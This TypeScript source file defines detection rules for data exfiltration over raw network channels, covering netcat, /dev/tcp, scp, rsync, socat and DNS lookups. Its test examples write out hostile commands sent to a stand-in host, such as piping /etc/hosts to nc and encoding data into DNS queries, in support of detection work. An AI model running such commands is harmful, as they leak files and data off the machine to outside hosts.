/**
 * exfiltration over channels other than an HTTP upload (those are in persistence.ts): what a
 * command sends to which host, asked of the effects model (`sendsOf`: netcat, /dev/tcp, scp,
 * rsync, ssh, ftp, smb, mail, DNS). Techniques: https://attack.mitre.org/techniques/T1048/.
 */
import type { Rule } from '../rule.js';
import { effectsOf, type Send } from '../effects/index.js';

/** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
export function isLoopbackHost(host: string): boolean {
  return /^(?:localhost|localhost\.localdomain|127(?:\.\d+){3}|\[::1\]|::1|0\.0\.0\.0|host\.docker\.internal)$/.test(host);
}

const remoteSends = (sends: Send[]) => sends.filter((s) => !isLoopbackHost(s.host));

export const EXFIL_RULES: Rule[] = [
  {
    id: 'file-sent-to-host',
    name: 'Local file sent over the network',
    category: 'exfiltration',
    action: 'record',
    attack: 'T1048',
    description: 'A local file or piped data sent to another host over a raw channel: nc/ncat/socat/telnet, a redirect into /dev/tcp/HOST/PORT, scp/sftp/rsync to a remote destination, ssh HOST fed a file, ftp/tftp/smbclient put, openssl s_client, mail with an attachment.',
    help: 'Moves data off the machine outside the usual tooling. Check the file and the host.',
    examples: {
      match: ['nc x.example 4444 < /etc/hosts', "bash -c 'cat notes.txt > /dev/tcp/x.example/443'", 'scp ./dump.sql user@x.example:', "ssh x.example 'cat > x' < data.tar", 'rsync -r ./dir x.example:'],
      not_match: ['scp user@x.example:/tmp/log.txt .', 'nc -zv db.internal 5432', 'rsync -a ./src/ ./backup/', 'echo PING | nc -q1 localhost 6379'],
    },
    match: { command: (c) => remoteSends(effectsOf(c).sends).some((s) => s.channel !== 'http' && s.channel !== 'dns' && (s.files.length > 0 || s.stdin)) },
  },
  {
    id: 'raw-socket-transfer',
    name: 'File moved over a raw socket',
    category: 'exfiltration',
    action: 'record',
    attack: 'T1105',
    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file, socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution.',
    help: 'Raw sockets move tools in and data out past proxies and logs. Check the host and the file.',
    examples: {
      match: ['nc x.example 12345 > /tmp/tool', 'socat -u tcp-connect:x.example:12345 open:/tmp/f,creat', "bash -c 'echo \"$(</dev/tcp/x.example/12345)\" > /tmp/f'"],
      not_match: ['nc -zv db.internal 5432', 'curl -o tool https://x.example/tool', 'echo PING | nc -q1 localhost 6379 > out.txt'],
    },
    match: {
      command: (c) => {
        const toFile = c.redirects.some((r) => /^1?(?:>|>>)$/.test(r.op) && r.target && !r.target.startsWith('/dev/'));
        if (/^(?:nc|ncat|netcat|telnet)$/.test(c.name)) {
          const host = c.argv.slice(1).find((a) => !a.startsWith('-') && !/^\d+$/.test(a));
          return toFile && host !== undefined && !isLoopbackHost(host.toLowerCase()) && !c.argv.some((a) => /^-[a-zA-Z]*z/.test(a));
        }
        if (c.name === 'openssl' && c.argv[1] === 's_client') return toFile;
        if (c.name === 'socat') return c.argv.some((a) => /^(?:tcp|udp)[46]?(?:-connect|-listen)?:/i.test(a)) && c.argv.some((a) => /^(?:open|create|gopen):/i.test(a));
        return c.redirects.some((r) => /^0?<$/.test(r.op) && /^\/dev\/(?:tcp|udp)\//.test(r.target) && !/\/(?:127\.\d+\.\d+\.\d+|localhost)\//.test(r.target));
      },
    },
  },
  {
    id: 'dns-exfil',
    name: 'Data sent in DNS lookups',
    category: 'exfiltration',
    action: 'record',
    attack: 'T1048.003',
    description: 'A DNS lookup (dig, nslookup, host, drill) whose query name is built from command output or a variable, or carries a long encoded label: data leaves in the name itself.',
    help: 'DNS passes most egress filters; every lookup of such a name delivers its data to the domain owner.',
    examples: {
      match: ['dig $(cat /etc/hostname | base64).x.example', 'for l in $(cat s.txt); do nslookup $l.x.example; done', 'host aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgZW5jb2RlZCBsYWJlbA.x.example'],
      not_match: ['dig example.com', 'nslookup github.com 8.8.8.8', 'host -t mx example.org'],
    },
    match: { command: (c) => effectsOf(c).sends.some((s) => s.channel === 'dns') },
  },
];
